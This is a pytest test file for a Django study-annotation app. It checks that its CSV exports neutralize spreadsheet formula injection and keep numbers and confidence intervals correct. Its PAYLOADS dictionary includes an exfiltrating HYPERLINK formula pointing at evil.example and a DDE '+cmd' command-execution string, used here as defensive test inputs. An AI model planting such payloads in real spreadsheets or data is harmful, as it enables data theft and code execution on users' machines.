"""What the researchers' CSV exports hold: spreadsheet-safe text, named intervals, rows."""

import csv
import io
import subprocess
import sys

import numpy as np
import pandas as pd
import pytest
from scipy import stats

from annotation.models import Dimension, Participation, Rating
from quality import export
from quality.models import AnalysisRun
from tests.factories import StimulusFactory
from tests.quality.test_analysis_runs import DIMS, rated_study, request_run, researcher

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "prompt": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "original_name": "+cmd|' /C calc'!A0.mp4",
    "action": "-2+3",
    "source_model": "@SUM(1+1)",
    "action_class": "\tclass",
    "action_subclass": "\rsub",
}


def body_of(response) -> str:
    return b"".join(response.streaming_content).decode()


def table_of(response) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body_of(response), newline="")))


def test_text_cells_are_quoted_and_numbers_are_left_alone():
    # given: text that a spreadsheet would run, harmless text, and numbers
    rows = [["=1+1", "-x", "\rx", "a\rb", "it's", -1.5, -2, 0.25, None, True]]
    # when
    text = "".join(export.csv_lines(list("abcdefghij"), rows))
    # then: CRLF line ends, so a carriage return inside a cell is quoted, not a new line
    assert text.startswith("a,b,c,d,e,f,g,h,i,j\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        list("abcdefghij"),
        ["'=1+1", "'-x", "'\rx", "a\rb", "it's", "-1.5", "-2", "0.25", "", "True"],
    ]
    assert pd.read_csv(io.StringIO(text))["f"].tolist() == [-1.5]  # a number, for pandas


def test_an_undefined_number_is_an_empty_cell_not_nan():
    # NaN: a stored summary's null read back into a float column of a DataFrame
    text = "".join(export.csv_lines(["a", "b", "c"], [[float("nan"), np.float64("nan"), 0.5]]))
    assert text == "a,b,c\r\n,,0.5\r\n"


def test_formula_text_in_the_exports_is_quoted(django_capture_on_commit_callbacks):
    # given: a stimulus whose texts are formulas, and an admin's reason that is one
    study, videos = rated_study(stimuli=8)
    for field, value in PAYLOADS.items():
        setattr(videos[0], field, value)
    videos[0].save()
    rater_id = Rating.objects.filter(score__lt=50).first().answer.assignment.rater_id
    Participation.objects.update_or_create(
        study=study, rater_id=rater_id, defaults={"is_excluded": True, "excluded_reason": "=1+1"}
    )
    client = researcher()
    run = request_run(client, study, django_capture_on_commit_callbacks)
    # when
    mos = table_of(client.get(f"/api/studies/{study.slug}/exports/mos.csv"))
    raters = table_of(client.get(f"/api/studies/{study.slug}/exports/raters.csv"))
    # then: every such text cell starts with a quote, the rest of the text unchanged
    line = next(row for row in mos if int(row["stimulus_id"]) == videos[0].pk)
    assert line["prompt"] == "'" + PAYLOADS["prompt"]
    assert line["file_name"] == "'" + PAYLOADS["original_name"]
    assert line["action"] == "'-2+3"
    assert line["source_model"] == "'@SUM(1+1)"
    assert (line["action_class"], line["action_subclass"]) == ("'\tclass", "'\rsub")
    assert [row["excluded_reason"] for row in raters if row["excluded_by_admin"] == "True"] == [
        "'=1+1"
    ]
    # and numbers stay numbers, equal to the stored run
    run.refresh_from_db()
    stored = {(int(r["video_id"]), r["dimension"]): r for r in run.mos}
    for row in mos:
        for dim in DIMS:
            assert float(row[f"mos_{dim}"]) == stored[(int(row["stimulus_id"]), dim)]["mos"]


def test_ratings_export_with_a_quoted_key_reads_back_into_the_cli(
    django_capture_on_commit_callbacks, tmp_path
):
    # given: a dimension key a spreadsheet would take for a formula (a valid slug)
    study, _ = rated_study(stimuli=8)
    Dimension.objects.filter(study=study, key="interaction").update(key="-interaction")
    client = researcher()
    run = request_run(client, study, django_capture_on_commit_callbacks)
    run.refresh_from_db()
    body = body_of(client.get(f"/api/studies/{study.slug}/exports/ratings.csv"))
    assert {row["dimension"] for row in csv.DictReader(io.StringIO(body))} == {
        "subject",
        "completeness",
        "'-interaction",
    }
    (tmp_path / "ratings.csv").write_text(body, encoding="utf-8")
    # when
    result = subprocess.run(
        [sys.executable, "-m", "quality", "analyze", str(tmp_path / "ratings.csv")]
        + ["--out", str(tmp_path / "out")],
        capture_output=True,
        text=True,
        timeout=120,
    )
    # then: the CLI reads the study's own key and computes the stored MOS; its mos.csv
    # quotes the key again, as the web exports do
    assert result.returncode == 0, result.stderr
    cli = pd.read_csv(tmp_path / "out" / "mos.csv", dtype={"dimension": str})
    assert set(cli["dimension"]) == {"subject", "completeness", "'-interaction"}
    cli["dimension"] = cli["dimension"].replace({"'-interaction": "-interaction"})
    stored = pd.DataFrame(run.mos).astype({"video_id": int})
    merged = cli.merge(stored, on=["video_id", "dimension"], validate="1:1")
    assert len(merged) == len(stored) == 8 * 3
    assert set(merged["dimension"]) == {"subject", "completeness", "-interaction"}
    np.testing.assert_allclose(merged["mos_x"], merged["mos_y"], rtol=0, atol=1e-9)


def test_mos_csv_has_one_row_per_rated_stimulus_and_names_the_raw_interval(
    django_capture_on_commit_callbacks,
):
    # given: a rated study and one stimulus nobody rated
    study, videos = rated_study(stimuli=8)
    unrated = StimulusFactory(study=study)
    client = researcher()
    run = request_run(client, study, django_capture_on_commit_callbacks)
    run.refresh_from_db()
    # when
    response = client.get(f"/api/studies/{study.slug}/exports/mos.csv")
    # then: the documented columns; the unrated stimulus is left out
    text = body_of(response)
    assert not text.startswith("\ufeff")  # UTF-8 without a byte-order mark
    header = text.splitlines()[0].split(",")
    assert header[:7] == [
        "stimulus_id",
        "file_name",
        "prompt",
        "action",
        "action_class",
        "action_subclass",
        "source_model",
    ]
    assert header[7:13] == [
        f"{field}_subject"
        for field in ("mos", "mos_raw", "std", "n", "ci95_low_raw", "ci95_high_raw")
    ]
    assert header[-1] == "all_combined"
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(int(row["stimulus_id"]) for row in rows) == sorted(v.pk for v in videos)
    assert unrated.pk not in {int(row["stimulus_id"]) for row in rows}
    # the interval is the Student-t interval of the raw mean (scipy), not of mos_
    for row in rows:
        n, raw = int(row["n_subject"]), float(row["mos_raw_subject"])
        sem = float(row["std_subject"]) / np.sqrt(n)
        low, high = stats.t.interval(0.95, n - 1, loc=raw, scale=sem)
        assert float(row["ci95_low_raw_subject"]) == pytest.approx(low, abs=1e-9)
        assert float(row["ci95_high_raw_subject"]) == pytest.approx(high, abs=1e-9)


def test_a_run_stored_before_the_rename_exports_its_interval(django_capture_on_commit_callbacks):
    # given: a run stored by quality.stats/1.0, under the interval's old names
    study, videos = rated_study(stimuli=6)
    client = researcher()
    run = request_run(client, study, django_capture_on_commit_callbacks)
    run.refresh_from_db()
    old = [
        {
            **{k: v for k, v in row.items() if not k.startswith("ci95")},
            "ci95_low": row["ci95_low_raw"],
            "ci95_high": row["ci95_high_raw"],
        }
        for row in run.mos
    ]
    AnalysisRun.objects.filter(pk=run.pk).update(mos=old)
    # when
    rows = table_of(client.get(f"/api/studies/{study.slug}/exports/mos.csv"))
    # then
    stored = {(int(r["video_id"]), r["dimension"]): r for r in old}
    for row in rows:
        assert float(row["ci95_low_raw_subject"]) == pytest.approx(
            stored[(int(row["stimulus_id"]), "subject")]["ci95_low"]
        )


def test_a_raw_export_before_any_run_is_named_without_one():
    study, _ = rated_study(stimuli=4)
    response = researcher().get(f"/api/studies/{study.slug}/exports/ratings.csv")
    assert f'filename="{study.slug}-ratings.csv"' in response["Content-Disposition"]
